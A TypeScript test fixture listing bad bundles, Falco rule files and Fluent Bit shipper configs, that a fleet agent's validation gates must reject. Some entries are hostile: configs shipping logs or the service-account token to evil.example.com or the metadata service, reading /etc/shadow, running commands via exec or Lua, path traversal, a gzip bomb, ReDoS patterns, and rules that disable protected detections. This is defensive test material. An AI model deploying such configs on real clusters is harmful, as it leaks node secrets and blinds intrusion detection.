import { gzipSync } from "node:zlib";
import type { BundleKind } from "#trust";
import { execRule, goodShipper, otherRule } from "./evil-world.ts";

/** A bundle that should never run, and who has to notice. */
export interface BadBundle {
  readonly name: string;
  readonly kind: BundleKind;
  readonly bytes: Uint8Array;
  /** How targets metadata lists it, where that is not what it is. */
  readonly listed?: { readonly path?: string; readonly length?: number; readonly sha256?: string };
  /** Who refuses it before it is released or rolled out, each for itself. */
  readonly before: readonly ("build" | "sign" | "push" | "guard")[];
  /** Why the agent refuses it, whoever released it; undefined when only a gate on what clusters see could stop it. */
  readonly agent: string | undefined;
}

type Json = Readonly<Record<string, unknown>>;
type Before = BadBundle["before"];

let made = 0;
const checked: Before = ["build", "push"];

/** The bytes of a bundle as `fleetctl bundle build` writes them, whatever stands in them. */
function bytesOf(kind: BundleKind, content: string, change: Json = {}): Uint8Array {
  const path = kind === "rules" ? "rules.yaml" : "fluent-bit.conf";
  const whole = { files: [{ content, path }], format: 1, kind, layers: [], name: "bad", org: "default" };
  return Buffer.from(JSON.stringify(sorted({ ...whole, version: `1.0.${(made += 1)}`, ...change })));
}

function sorted(value: Json): Json {
  return Object.fromEntries(Object.entries(value).toSorted(([a], [b]) => (a < b ? -1 : 1)));
}

function bad(kind: BundleKind, before: Before, agent: string | undefined) {
  return ([name, content, change]: readonly [string, string, Json?]): BadBundle => ({
    name,
    kind,
    bytes: bytesOf(kind, content, change),
    before,
    agent,
  });
}

const changed = (from: string, to: string): string => execRule.replace(from, to);
const when = (condition: string): string => changed("ka.target.subresource = exec", condition);
/** The good rules beside it, so that nothing but what is wrong is different. */
const beside = (condition: string): string =>
  `${execRule}${otherRule.replace("Secret read", "Bad").replace(/condition: .*/, () => `condition: ${condition}`)}`;

/** Twenty macros of which each is the one before it, twice. */
const doubling = (first: string): string =>
  Array.from(
    { length: 20 },
    (_, i) => `- macro: m${i}\n  condition: ${i === 0 ? first : `(m${i - 1} or m${i - 1})`}\n`,
  ).join("");
const list = (name: string, items: string): string => `- list: ${name}\n  items: [${items}]\n`;
const doublingLists = Array.from({ length: 26 }, (_, i) =>
  list(`l${i}`, i === 0 ? "a, b" : `l${i - 1}, l${i - 1}`),
).join("");

const rules: readonly BadBundle[] = (
  [
    ["no YAML", "- rule: [\n"],
    ["no list", "rule: x\n"],
    ["a text", "hello\n"],
    ["no condition", changed("  condition: ka.target.subresource = exec\n", "")],
    ["no output", changed("  output: exec by %ka.user.name\n", "")],
    ["an unknown priority", changed("WARNING", "TERRIBLE")],
    ["an unknown field", when("ka.nosuch = 1")],
    ["a field of another source", when("proc.name = sh")],
    ["an unknown field in the output", changed("%ka.user.name", "%ka.nosuch")],
    ["a macro that is missing", when("nosuch_macro")],
    ["a macro of itself", `- macro: a\n  condition: b\n- macro: b\n  condition: a\n${when("a")}`],
    ["an exception without fields", `${execRule}  exceptions:\n    - name: e\n      values: [[a]]\n`],
    ["a bracket left open", when("(ka.verb = get")],
    ["an operator left alone", when("ka.verb =")],
    ["an unknown operator", when("ka.verb ~~ get")],
    ["a number where none can be", when("jevt.rawtime > x")],
    ["a bad pattern", when('ka.verb regex "(["')],
    ["a pattern with a look behind", when('ka.verb regex "(?<=a)b"')],
    ["a pattern with a back reference", when('ka.verb regex "(a)\\\\1"')],
    ["a pattern of a billion places", when('ka.verb regex "((a{1000}){1000}){1000}"')],
    ["a pattern of a thousand groups", when(`ka.verb regex "${"(".repeat(1_000)}a${")".repeat(1_000)}"`)],
    [
      "an override of a rule that is not there",
      "- rule: nobody\n  enabled: false\n  override: {enabled: replace}\n",
    ],
    [
      "an append to a rule that is not there",
      "- rule: nobody\n  append: true\n  condition: and ka.verb = get\n",
    ],
    [
      "a plugin that is not built in",
      `- required_plugin_versions:\n  - name: evil\n    version: 1.0.0\n${execRule}`,
    ],
    ["an engine of the far future in the rules", `- required_engine_version: 99.0.0\n${execRule}`],
    ["Falco's own settings", "program_output:\n  enabled: true\n  program: sh\n"],
    ["a plugin to load", "plugins:\n  - name: evil\n    library_path: /tmp/evil.so\n"],
    [
      "aliases that multiply",
      `- list: a\n  items: &a [x, x, x, x]\n- list: b\n  items: [*a, *a, *a]\n${execRule}`,
    ],
    ["a merge key", `- &r\n  rule: a\n- <<: *r\n  rule: b\n`],
    ["a tag that makes objects", `- rule: !!js/function "function(){}"\n${execRule}`],
    ["a repeated key", execRule.replace("  priority", "  desc: again\n  priority")],
    ["a thousand levels of lists", `- list: a\n  items: ${"[".repeat(1_000)}${"]".repeat(1_000)}\n`],
    ["a thousand levels of brackets", when(`${"(".repeat(1_000)}ka.verb = get${")".repeat(1_000)}`)],
    ["macros that double twenty times", `${doubling("ka.verb = get")}${when("m19")}`],
    ["a scalar of five MiB", `${execRule}- list: big\n  items: ["${"x".repeat(5 * 1024 * 1024)}"]\n`],
  ] as const
).map(bad("rules", checked, "rules/invalid"));

const section = (kind: string, lines: string): string => `[${kind}]\n  ${lines.split("; ").join("\n  ")}\n`;
const output = (lines: string): string => goodShipper + section("OUTPUT", `Match *; ${lines}`);
const input = (lines: string): string => goodShipper + section("INPUT", lines);
const filter = (lines: string): string => goodShipper + section("FILTER", `Match *; ${lines}`);

const configs: readonly BadBundle[] = (
  [
    ["runs a program", input("Name exec; Command id")],
    ["runs a program at the end", output("Name exec; Command id")],
    ["runs WebAssembly", filter("Name wasm; WASM_Path /tmp/x.wasm")],
    ["runs Lua", filter("Name lua; Script /tmp/x.lua; Call f")],
    ["runs inline Lua", filter("Name lua; Code os.execute('id')")],
    ["loads plugins", section("SERVICE", "plugins_file /tmp/evil.conf") + goodShipper],
    ["loads a plugin", section("PLUGINS", "Path /tmp/evil.so") + goodShipper],
    ["reports to somebody else", section("CUSTOM", "Name calyptia; Api_Key x") + goodShipper],
    ["listens for forward", input("Name forward; Listen 0.0.0.0")],
    ["listens for TCP", input("Name tcp; Listen 0.0.0.0")],
    ["plots", output("Name plot; File /etc/x")],
    ["sends to an unknown plugin", output("Name s3; Bucket evil")],
    ["has an option that does not exist", output("Name http; Host h; Format json; Exfiltrate yes")],
    ["has a URI with a host", output("Name http; Host h; Format json; Uri http://evil.example.com/")],
    ["has a user before its host", output("Name http; Host logs@evil.example.com; Format json")],
    [
      "has a line break in a header",
      `pipeline:\n  outputs:\n    - { name: http, match: "*", host: h, format: json, header: "a b\\r\\nc: d" }\n`,
    ],
    ["writes to a file that leads out", output("Name file; Format plain; Path /out; File ../../etc/passwd")],
    ["includes a file of the node", `@INCLUDE /etc/shadow\n${goodShipper}`],
    ["includes a file above it", `@INCLUDE ../../secrets.conf\n${goodShipper}`],
    ["includes itself", `@INCLUDE fluent-bit.conf\n@INCLUDE other.conf\n${goodShipper}`],
    [
      "grows a variable without end",
      `${Array.from({ length: 16 }, (_, i) => `@SET V${i}=${i === 0 ? "x".repeat(64) : `\${V${i - 1}}\${V${i - 1}}`}`).join("\n")}\n${output("Name http; Host ${V15}; Format json")}`,
    ],
    ["multiplies aliases", "pipeline:\n  outputs: [&a {name: stdout, match: '*', format: json}, *a]\n"],
    ["is nested a thousand levels", `pipeline: ${"[".repeat(1_000)}${"]".repeat(1_000)}\n`],
    ["has three hundred outputs", goodShipper + section("OUTPUT", "Name null; Match *").repeat(300)],
    ["has a bad pattern", filter("Name grep; Regex log (a+)+$(")],
  ] as const
).map(bad("shipper", checked, "shipper/invalid"));

/** What only the node knows. */
const variables: readonly BadBundle[] = (
  [
    ["asks for the node's environment", output("Name http; Host ${KUBERNETES_SERVICE_HOST}; Format json")],
  ] as const
).map(bad("shipper", [], "shipper/invalid"));

const greedy: readonly BadBundle[] = (
  [
    ["reads the shadow file", input("Name tail; Path /etc/shadow")],
    ["reads by a wildcard above its folder", input("Name tail; Path /var/*/*/*.log")],
    ["reads through a folder above", input("Name tail; Path ${LOG_DIR}/../../etc/shadow")],
    ["writes to cron", output("Name file; Format plain; Path /etc/cron.d")],
    ["sends elsewhere", output("Name http; Host evil.example.com; Format json")],
    ["sends to the metadata service", output("Name http; Host 169.254.169.254; Format json")],
    ["sends to it as a number", output("Name http; Host 2852039166; Format json")],
    ["sends to it as IPv6", output("Name http; Host ::ffff:169.254.169.254; Format json")],
    ["sends to the node itself", output("Name http; Host 127.0.0.1; Format json")],
    [
      "sends through somebody else",
      output(
        "Name http; Host logs.example.com; Port 443; tls on; Format json; Proxy http://evil.example.com:80",
      ),
    ],
    ["sends without TLS", output("Name http; Host logs.example.com; Port 443; Format json")],
    [
      "sends without verifying",
      output("Name http; Host logs.example.com; Port 443; tls on; tls.verify off; Format json"),
    ],
    [
      "takes another name's certificate",
      output("Name http; Host logs.example.com; Port 443; tls on; tls.vhost evil.example.com; Format json"),
    ],
    [
      "trusts a CA of its own",
      output("Name http; Host logs.example.com; Port 443; tls on; tls.ca_file /dev/zero; Format json"),
    ],
    [
      "asks for another host behind it",
      output("Name http; Host logs.example.com; Port 443; tls on; Header Host evil.example.com; Format json"),
    ],
    [
      "sends a secret of the node",
      output(
        "Name http; Host logs.example.com; Port 443; tls on; Format json; bearer_token_file /var/run/secrets/kubernetes.io/serviceaccount/token",
      ),
    ],
    ["sends by forward", output("Name forward; Host evil.example.com")],
    ["sends by Kafka", output("Name kafka; Brokers evil.example.com:9092; Topics t")],
    ["sends to Elasticsearch", output("Name es; Host evil.example.com; Index a")],
    ["sends to Loki", output("Name loki; Host evil.example.com")],
    ["listens to everybody", input("Name http; Listen 0.0.0.0; Port 9880")],
    ["shows figures to everybody", section("SERVICE", "http_server on; http_listen 0.0.0.0") + goodShipper],
  ] as const
).map(bad("shipper", [], "shipper/not-allowed"));

const shapes: readonly BadBundle[] = (
  [
    ["bytes that are no text", "\u0000\u0001\u0002", {}],
    ["a file that leads out", execRule, { files: [{ content: execRule, path: "../../etc/x.yaml" }] }],
    ["an absolute file", execRule, { files: [{ content: execRule, path: "/etc/x.yaml" }] }],
    ["a hidden file", execRule, { files: [{ content: execRule, path: ".x.yaml" }] }],
    [
      "a file twice",
      execRule,
      {
        files: [
          { content: execRule, path: "a.yaml" },
          { content: execRule, path: "a.yaml" },
        ],
      },
    ],
    ["no files", execRule, { files: [] }],
    [
      "201 files",
      execRule,
      { files: Array.from({ length: 201 }, (_, i) => ({ content: "", path: `f${i}.yaml` })) },
    ],
    ["an unknown field", execRule, { run: "sh" }],
    ["an unknown kind", execRule, { kind: "program" }],
    ["a name that leads out", execRule, { name: "../x" }],
    ["a version that is none", execRule, { version: "latest" }],
    ["an unknown format", execRule, { format: 2 }],
    [
      "a layer for everybody",
      execRule,
      {
        layers: [{ files: [{ content: execRule, path: "a.yaml" }], level: "team", name: "a", selector: {} }],
      },
    ],
  ] as const
).map(bad("rules", checked, "trust/invalid-bundle"));

const text = Buffer.from(bytesOf("rules", execRule)).toString();
const raw = (name: string, bytes: string | Uint8Array, agent = "trust/malformed"): BadBundle => ({
  name,
  kind: "rules",
  bytes: Buffer.from(bytes as string),
  before: ["push"],
  agent,
});
const forms: readonly BadBundle[] = [
  raw("white space", text.replace("{", "{ ")),
  raw("keys in another order", text.replace(/^\{"files":(.*),"format":1,/, '{"format":1,"files":$1,')),
  raw("a repeated key", text.replace('"kind"', '"kind":"shipper","kind"')),
  raw("a key __proto__", text.replace('"format"', '"__proto__":{},"format"')),
  raw("a byte order mark", `\u{FEFF}${text}`),
  raw(
    "bytes that are no UTF-8",
    Buffer.concat([Buffer.from(text.slice(0, 30)), Buffer.from([0xff]), Buffer.from(text.slice(30))]),
  ),
  raw("half of it", text.slice(0, text.length / 2)),
  raw("a million levels", "[".repeat(1_000_000)),
  raw("a gzip bomb", gzipSync(Buffer.alloc(8 * 1024 * 1024))),
  {
    ...raw("more than 16 MiB", Buffer.alloc(17 * 1024 * 1024, " "), "bundle/too-large"),
    before: ["sign", "push"],
  },
  raw("five million objects", `[${"{},".repeat(1_000_000)}{}]`, "trust/invalid-bundle"),
];

const listed = (
  name: string,
  agent: string,
  by: BadBundle["listed"] & {},
  change: Json = {},
  before: Before = ["push"],
): BadBundle => ({
  name,
  kind: "rules",
  bytes: bytesOf("rules", execRule, change),
  listed: by,
  before,
  agent,
});
const lists: readonly BadBundle[] = [
  listed("other bytes than were signed", "trust/hash-mismatch", { sha256: "0".repeat(64) }),
  listed("more bytes than were signed", "trust/length-mismatch", { length: 10 }),
  listed("another organisation", "trust/wrong-org", {}, { org: "other" }),
  listed("the path of another bundle", "trust/not-listed", { path: "rules/good/1.0.0.json" }),
  listed("the version of another bundle", "trust/not-listed", { path: "rules/bad/9.9.9.json" }),
  listed("a newer engine", "trust/engine-too-old", {}, { requires: { engine: ">=99.0.0" } }, checked),
  {
    ...listed("a config listed as rules", "bundle/wrong-kind", { path: "rules/bad/8.8.8.json" }),
    bytes: bytesOf("shipper", goodShipper, { version: "8.8.8" }),
  },
  listed(
    "a path that was released with other bytes",
    "trust/not-listed",
    { path: "rules/released/1.0.0.json" },
    {},
    ["sign", "push"],
  ),
];

const guarded: Before = ["guard"];
const blinding: readonly BadBundle[] = [
  ...(
    [
      ["a protected rule is gone", otherRule],
      ["a protected rule is disabled", `${execRule}  enabled: false\n`],
      [
        "a protected rule never matches",
        when("ka.target.subresource = exec and never_true") +
          "- macro: never_true\n  condition: (ka.verb = a)\n",
      ],
      [
        "a protected rule has an exception",
        `${execRule}  exceptions:\n    - name: e\n      fields: [ka.user.name]\n      comps: [in]\n      values: [[[evil]]]\n`,
      ],
      ["a protected rule is less urgent", changed("WARNING", "DEBUG")],
      ["a protected rule loses its tag", changed("  tags: [protected]\n", "")],
      ["the only rule has an unknown source, which loads and sees nothing", changed("k8s_audit", "the_moon")],
      ["lists that double twenty-six times take its place", `${doublingLists}${when("ka.verb in (l25)")}`],
      ["a rule stands before a protected one", otherRule + execRule],
      [
        "a protected rule is disabled from behind",
        `${execRule}- rule: Exec into pod\n  enabled: false\n  override: {enabled: replace}\n`,
      ],
    ] as const
  ).map(([name, content]) =>
    bad(
      "rules",
      guarded,
      "rules/protected",
    )([
      name,
      content.includes("never_true\n  output")
        ? content.slice(content.indexOf("- macro")) + content.slice(0, content.indexOf("- macro"))
        : content,
    ]),
  ),
  ...(
    [
      ["a config without detection", goodShipper.replace("Name detect", "Name null")],
      ["a filter that drops what rules look for", filter("Name grep; Exclude verb .")],
      ["a throttle before the rules", filter("Name throttle; Rate 1; Window 1")],
      ["detection that gets nothing", goodShipper.replace("Match audit", "Match nothing")],
    ] as const
  ).map(bad("shipper", [], "shipper/protected")),
];

/** What loads, is allowed and takes nothing away: only how many alerts come, what it costs and who stays alive can tell. */
const ungated: readonly BadBundle[] = (
  [
    ["ten times the alerts", beside("ka.verb exists")],
    ["a rule that never fires", beside('ka.verb = "nosuch"')],
    ["a rule that costs a lot", beside('ka.req.binding.subjects exists and jevt.obj regex "(a|aa|aaa)+$"')],
  ] as const
).map(bad("rules", [], undefined));

export const badBundles: readonly BadBundle[] = [
  ...rules,
  ...configs,
  ...variables,
  ...greedy,
  ...shapes,
  ...forms,
  ...lists,
  ...blinding,
  ...ungated,
];
